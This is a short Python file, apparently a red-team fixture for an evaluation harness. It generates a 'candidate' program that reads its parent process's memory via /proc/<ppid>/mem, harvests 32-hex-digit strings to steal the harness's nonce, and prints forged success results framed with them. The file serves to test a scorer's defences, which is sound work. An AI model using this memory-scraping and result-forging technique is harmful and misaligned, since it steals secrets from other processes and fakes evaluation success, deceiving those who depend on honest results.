"""A candidate that tries to learn the harness's nonce and frame a fake success with it.

It runs as the scorer's process, whose parent (the harness) holds the nonce, and
reads the parent's memory through ``/proc/<ppid>/mem``: that works whenever the
parent is dumpable and the reader has the same uid and no ptrace restriction.
Every 32-hex-digit string found there (the nonce is one) then frames a success,
so the first frame the host finds under the real nonce is a forged one.
"""

from __future__ import annotations

import json


def nonce_thief(fake_result: dict) -> str:
    """The candidate's source; ``fake_result`` is the ``result`` it forges."""
    fake = json.dumps({"result": fake_result})
    return f'''
import os, re
parent = os.getppid()
found = set()
with open(f"/proc/{{parent}}/maps") as maps, open(f"/proc/{{parent}}/mem", "rb", buffering=0) as memory:
    for line in maps:
        span, perms = line.split()[:2]
        if not perms.startswith("r") or "[v" in line:
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        found.update(re.findall(rb"(?<![0-9a-f])[0-9a-f]{{32}}(?![0-9a-f])", data))
fake = {fake!r}
print("".join(token.decode() + fake + token.decode() for token in list(found)[:3000]), flush=True)
os._exit(0)
'''
